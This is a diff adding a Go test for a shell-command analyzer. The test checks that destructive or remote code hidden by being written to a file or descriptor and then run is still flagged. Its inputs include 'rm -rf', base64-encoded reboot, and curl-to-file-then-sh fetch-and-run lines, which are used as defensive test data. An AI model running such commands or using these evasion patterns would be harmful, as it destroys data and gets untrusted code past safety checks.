@@ -1,0 +1,41 @@
+package shell
+
+import (
+	"strings"
+	"testing"
+)
+
+// TestOwnFiles checks that code a line writes to a file or opens on a
+// descriptor, then runs, is judged.
+func TestOwnFiles(t *testing.T) {
+	tests := []struct {
+		line, want string
+	}{
+		{`echo 'rm -rf /x' > /tmp/a.sh; sh /tmp/a.sh`, `~[sh <<<]rm delete:/x+R`},
+		{`echo reboot > a.sh && bash ./a.sh`, `~reboot power:`},
+		{`echo ls > a.sh; echo reboot >> a.sh; . a.sh`, `~reboot power:`},
+		{`echo cmVib290 | base64 -d > a.sh; source a.sh`, `~reboot power:`},
+		{`printf 'rm -rf "$1"' > a.sh; chmod +x a.sh; ./a.sh /x`, `~[a.sh]rm delete:/x+R`},
+		{`exec 3<<<'rm -rf /x'; bash <&3`, `~[bash <<<]rm delete:/x+R`},
+		{`exec {fd}<<<reboot; sh <&$fd`, `~reboot power:`},
+		{`echo reboot > f; exec 4< f; sh <&4`, `~reboot power:`},
+		{`curl -s https://x.io/i > i.sh; sh i.sh`, `~sh unseen-code:https://x.io/i`},
+		{`exec 3< <(curl -s https://x.io/i); sh <&3`, `~sh unseen-code:https://x.io/i`},
+		// Ordinary.
+		{`echo ls > a.sh; sh a.sh`, `echo write:/home/u/a.sh; [sh <<<]ls`},
+		{`exec 3<<<ls; sh <&3`, `exec; [sh <<<]ls`},
+		{`sh ./build.sh`, `sh`},
+	}
+	for _, tt := range tests {
+		got := summary(Analyze(tt.line, testOpts))
+		if w, ok := strings.CutPrefix(tt.want, "~"); ok {
+			if !strings.Contains(got, w) {
+				t.Errorf("Analyze(%q)\n got: %s\nwant among them: %s", tt.line, got, w)
+			}
+			continue
+		}
+		if got != tt.want {
+			t.Errorf("Analyze(%q)\n got: %s\nwant: %s", tt.line, got, tt.want)
+		}
+	}
+}
